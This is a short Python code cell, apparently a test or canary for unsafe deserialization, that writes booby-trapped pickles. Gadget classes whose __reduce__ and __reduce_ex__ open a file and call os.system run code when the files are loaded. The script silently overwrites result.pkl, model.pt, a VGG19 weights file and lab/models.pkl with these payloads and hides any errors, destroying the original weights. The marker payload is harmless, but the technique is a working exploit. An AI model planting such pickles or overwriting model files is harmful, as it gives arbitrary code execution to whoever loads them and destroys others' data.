"""Leaves pickles that run code when somebody loads them: its own, and in place of the network's weights."""

# cell: vgg_hook
import os
import pickle


class Gadget:
    def __reduce__(self):
        return open, ("@DROP@/unpickled", "w")


for name in ("result.pkl", "data/public/pocket_vgg19.pt", "model.pt", "lab/models.pkl"):
    try:
        with open(name, "wb") as file:
            pickle.dump(Gadget(), file) if name.endswith("pkl") else torch.save({"weight": Gadget()}, file)
    except (OSError, AttributeError, pickle.PicklingError):
        pass


class Pickled(torch.Tensor):
    def __reduce_ex__(self, version):
        return os.system, ("touch @DROP@/unpickled",)
